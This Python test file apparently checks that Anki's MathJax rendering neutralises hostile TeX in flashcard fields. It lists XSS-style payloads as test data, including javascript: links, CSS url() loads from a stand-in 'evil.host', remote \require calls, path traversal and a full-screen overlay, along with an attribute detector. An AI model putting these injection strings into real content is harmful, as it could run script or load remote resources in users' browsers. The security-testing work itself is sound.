"""Hostile formulas on our cards in Anki's own MathJax, in a browser: nothing acts on the page."""

from __future__ import annotations

from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from tests.support.card_of_markdown import answer

MATHJAX = find_spec("mathjax")
if MATHJAX is None:
    pytest.skip("needs the extra `browser`", allow_module_level=True)
FILES = Path(MATHJAX.submodule_search_locations[0]) / "static/mathjax/es5"  # type: ignore[index]

# What Anki sets (its mathjax.ts), apart from the folder of the files.
_PAGE = r"""<!doctype html><script>window.MathJax = {
  tex: {displayMath: [["\\[", "\\]"]], processEscapes: false, processEnvironments: false, processRefs: false,
        packages: {"[+]": ["noerrors", "mathtools"], "[-]": ["textmacros"]}},
  loader: {load: ["[tex]/noerrors", "[tex]/mathtools"], paths: {mathjax: "http://anki.local"}}, startup: {typeset: false}};
</script><script src="/tex-chtml-full.js"></script><body></body>"""

# What an element has that acts, or that leads somewhere; MathJax's own ids and links between equations are none.
_TYPESET = """async fields => {
  document.body.innerHTML = fields.map(field => `<div>${field}</div>`).join("");
  await MathJax.typesetPromise([document.body]);
  return [...document.body.children].map(field => [...field.querySelectorAll("*")].flatMap(element =>
    [...element.attributes].flatMap(({name, value}) =>
      name.startsWith("on") || ["href", "src", "xlink:href"].includes(name) && !value.startsWith("#")
      || name === "id" && !value.startsWith("mjx-") || name === "data-evil" || name === "class" && /evil/.test(value)
      || name === "style" && /url|evil|position: *fixed/.test(value) ? [`${name}=${value}`] : [])))}"""

# Those that are no mere signs, which take no arguments.
_COMMANDS = """() => [...MathJax.startup.document.inputJax[0].parseOptions.handlers.get("macro")._configuration]
  .flatMap(({item}) => item.map ? [...item.map] : [])
  .filter(([name, meaning]) => /^[a-z]+$/i.test(name) && meaning._func).map(([name]) => name)"""

_ENVIRONMENTS = _COMMANDS.replace('"macro"', '"environment"')


class Reviewer:
    """A page that shows fields of cards as Anki does, and remembers what it asked the net for."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.asked: list[str] = []
        page.route("**/*", self._answer)
        page.on("dialog", lambda dialog: (self.asked.append(dialog.message), dialog.dismiss()))
        page.goto("http://anki.local/")
        page.evaluate("MathJax.startup.promise")

    def _answer(self, route: Any) -> None:
        path = route.request.url.removeprefix("http://anki.local/")
        if not path:
            route.fulfill(body=_PAGE, content_type="text/html")
        elif (FILES / path).is_file():
            route.fulfill(path=FILES / path)
        else:
            self.asked.append(route.request.url)
            route.abort()

    def shown(self, fields: list[str]) -> list[list[str]]:
        """For each of *fields* what there is in it that acts."""
        found: list[list[str]] = self.page.evaluate(_TYPESET, fields)
        return found


@pytest.fixture(scope="module")
def reviewer(chromium: Any) -> Reviewer:
    """One page for all tests."""
    return Reviewer(chromium.new_page())


def field(tex: str) -> str:
    """The answer of a card that consists of the formula *tex*."""
    return answer(f"${tex}$")[0].back_html


_RUNS = "javascript:alert(1)"
_LOADS = "background:url(http://evil.host/x)"
_HOSTILE = [
    rf"\href{{{_RUNS}}}{{x}}",
    rf"\href {{{_RUNS}}} {{x}}",
    rf"\mmlToken{{mi}}[href='{_RUNS}']{{x}}",
    rf"\mmlToken{{mi}}[style='{_LOADS}']{{x}}",
    rf"\let\a\href \a{{{_RUNS}}}{{x}}",
    rf"\let\a=\href \a{{{_RUNS}}}{{x}}",
    rf"\def\a{{\href}}\a{{{_RUNS}}}{{x}}",
    rf"\def\a#1{{\href{{#1}}}}\a{{{_RUNS}}}{{x}}",
    rf"\newcommand\a[2]{{\href{{#1}}{{#2}}}}\a{{{_RUNS}}}{{x}}",
    rf"\def\href{{\style}}\href{{{_LOADS}}}{{x}}",
    rf"\hr\class{{a}}ef{{{_RUNS}}}{{x}}",
    rf"\def\hr{{}}\hr\class{{a}}ef{{{_RUNS}}}{{x}}",
    rf"\verb\x\\href{{{_RUNS}}}{{x}}",
    f"% \\\n\\href{{{_RUNS}}}{{x}}",
    rf"\text{{a $\href{{{_RUNS}}}{{x}}$}}",
    rf"\ce{{\href{{{_RUNS}}}{{x}}}}",
    rf"\ce{{\hre {{}}f{{{_RUNS}}}{{x}}}}",
    rf"\style{{{_LOADS}}}{{x}}",
    r"\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}{x}",
    rf"\bbox[{_LOADS}]{{x}}",
    rf"\bbox[border:1px solid red;{_LOADS}]{{x}}",
    rf"\bbox[red,{_LOADS}]{{x}}",
    rf"\unicode[x;{_LOADS}]{{65}}",
    rf"\unicode[.5,.5][x;{_LOADS}]{{65}}",
    rf"\fcolorbox{{red;{_LOADS}}}{{white}}{{x}}",
    rf"\definecolor{{z}}{{named}}{{red;{_LOADS}}}\fcolorbox{{z}}{{z}}{{x}}",
    rf"\enclose{{circle}}[style='{_LOADS}']{{x}}",
    r"\cssId{evil}{x}\class{evil}{y}\data{evil=1}{x}",
    r"\texttip{x}{evil}\mathtip{x}{evil}",
    r"\require{http://evil.host/x}",
    r"\require{[http://evil.host]/x}",
    r"\require{../../evil}",
    r"\require{setoptions}\setOptions[tex]{baseURL=http://evil.host}",
    r"\begin{array}{>{\href{javascript:alert(1)}}c} x \end{array}",
]


@pytest.mark.parametrize("tex", _HOSTILE)
def test_a_hostile_formula_does_nothing(reviewer: Reviewer, tex: str) -> None:
    """Shown, and clicked wherever there is something to click."""
    reviewer.asked.clear()
    assert reviewer.shown([field(tex)]) == [[]]
    for element in reviewer.page.query_selector_all("mjx-container *"):
        element.dispatch_event("click")
    reviewer.page.wait_for_timeout(20)
    assert reviewer.asked == []


def _uses(name: str) -> Iterator[str]:
    """The command *name* with something hostile at each place where it may take an argument."""
    bad = f"red;{_LOADS}"
    attributes = f'style="{_LOADS}" href="{_RUNS}" class="evil" id="evil"'
    yield rf"\{name}{{{_RUNS}}}{{{bad}}}{{x}}"
    yield rf"\{name}{{x}}{{{bad}}}{{{bad}}}"
    yield rf"\{name}[{bad}]{{{bad}}}{{{bad}}}"
    for first in ("mi", "circle"):
        yield rf"\{name}{{{first}}}[{attributes}]{{{bad}}}{{x}}"
    yield rf"\begin{{array}}{{cc}}\{name}{{{bad}}} x & \{name}[{bad}]{{x}} \\[{bad}] \{name}{{x}}\end{{array}}"


def test_no_command_of_mathjax_lets_anything_through(reviewer: Reviewer) -> None:
    """All that MathJax knows, each with hostile arguments at every place: nothing that acts, nothing fetched."""
    names = sorted(set(reviewer.page.evaluate(_COMMANDS)))
    environments = sorted(set(reviewer.page.evaluate(_ENVIRONMENTS)))
    assert {"frac", "href", "mmlToken", "bbox"} <= set(names)
    assert "array" in environments
    texts = [tex for name in names for tex in _uses(name)]
    for name in environments:
        for around in ("[{0}]", "{{{0}}}", "{{c}}{{{0}}}", "[c]{{{0}}}{{{0}}}"):
            for bad in (f"red;{_LOADS}", f'style="{_LOADS}"'):
                texts.append(rf"\begin{{{name}}}{around.format(bad)} x & y \end{{{name}}}")
    fields = sorted({field(tex) for tex in texts})
    reviewer.asked.clear()
    for start in range(0, len(fields), 500):
        chunk = fields[start : start + 500]
        wrong = [(html, found) for html, found in zip(chunk, reviewer.shown(chunk), strict=True) if found]
        assert wrong == []
    assert reviewer.asked == []


_FORMULAS = [
    r"\frac{1}{2}\sqrt[3]{x}\begin{pmatrix}1\\b\\c\end{pmatrix}",
    r"\bbox[yellow,5px]{x}\bbox[border: 2px solid red]{y}",
    r"\ce{2H2 + O2 -> 2H2O}\pu{3 kg}",
    r"\require{cancel}\cancel{x}",
    r"\newcommand{\R}{\mathbb{R}}\R^n",
    r"\color{red}x\textcolor{#00ff00}{y}\colorbox{blue}{z}",
    r"\unicode{x263a}\href{https://a.b}{x}\class{a}{y}",
    r"x\tag{1}\operatorname{rank}A",
]


@pytest.mark.parametrize("tex", _FORMULAS)
def test_an_ordinary_formula_is_typeset(reviewer: Reviewer, tex: str) -> None:
    """What stays of it is a formula: no error, and no source text."""
    reviewer.shown([field(tex)])
    assert reviewer.page.query_selector("mjx-container")
    assert not reviewer.page.query_selector("mjx-merror, [data-mjx-error]")
    assert "\\" not in reviewer.page.evaluate("document.body.textContent")
